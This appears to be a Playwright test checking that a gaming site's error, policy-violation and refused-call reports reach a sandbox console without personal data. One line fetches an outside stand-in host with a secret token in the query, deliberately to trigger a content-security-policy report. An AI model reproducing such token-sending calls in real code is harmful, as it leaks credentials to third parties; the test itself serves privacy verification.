import { ConsentPrompt } from '../page-models/consent-prompt.ts';
import { SandboxConsole } from '../page-models/sandbox-console.ts';
import { SiteFooter } from '../page-models/site-footer.ts';
import { mockGoogleTag } from '../site/google-tag-mock.ts';
import { hide } from '../site/hide.ts';
import { expect, test } from '../site/test.ts';

test.use({ brand: 'bazaar', workspace: 'tests/fixtures/workspace' });

test('an error, a policy violation and a refused call arrive with their release, and with nothing of the person', {
  tag: ['@phone', '@consent', '@help'],
}, async ({ page, context, site, troubles }) => {
  await mockGoogleTag(page);
  const sent: string[] = [];
  page.on('request', (request) => {
    if (new URL(request.url()).pathname === '/sandbox/reports') sent.push(request.postData() ?? '');
  });
  await site.set({ faults: [{ operation: 'helpCenter', kind: 'refused', errorCode: 'not_available' }] });
  await page.goto(`${site.url}/rng?vassalage=AB&invite=secret77`);
  const prompt = new ConsentPrompt(page);
  await expect(prompt.region).toContainText('Google Analytics');
  await expect(prompt.region).toContainText('reports of errors');
  await hide(page);
  expect(sent).toEqual([]);
  const loaded = page.waitForResponse(/start-reports-/);
  await prompt.accept.click();
  await loaded;
  const build = await page.evaluate(() => JSON.parse(document.getElementById('brand')?.textContent ?? '').build);
  await page.evaluate(() => {
    fetch('https://ana-cruz.outside.example/?token=secret77').catch(() => undefined);
    setTimeout(() => {
      throw new TypeError('Cannot read the balance 50,000.00 of player1@mail.example');
    });
  });
  const refused = page.waitForResponse(/describe-refusal-/);
  await new SiteFooter(page).follow('Privacy');
  await refused;
  await expect.poll(() => troubles.length).toBeGreaterThan(1);
  troubles.length = 0;

  const arrived = page.waitForResponse(/\/sandbox\/reports$/);
  await hide(page);
  await arrived;
  const sandbox = new SandboxConsole(await context.newPage(), site.url);
  await sandbox.open();
  const reports = sandbox.reportsOf('bazaar', build);
  await expect(reports).toContainText('Visits: 1, with an error: 1');
  await expect(reports.getByRole('row', { name: 'TypeError: cannot read the … of …' })).toContainText('games');
  await expect(reports.getByRole('row', { name: 'connect-src: outside.example' })).toBeVisible();
  await expect(reports.getByRole('row', { name: 'helpCenter: 403 not_available' })).toContainText('help');
  expect(sent.join()).not.toMatch(/secret77|ana-cruz|player1|50,000|vassalage/i);
});
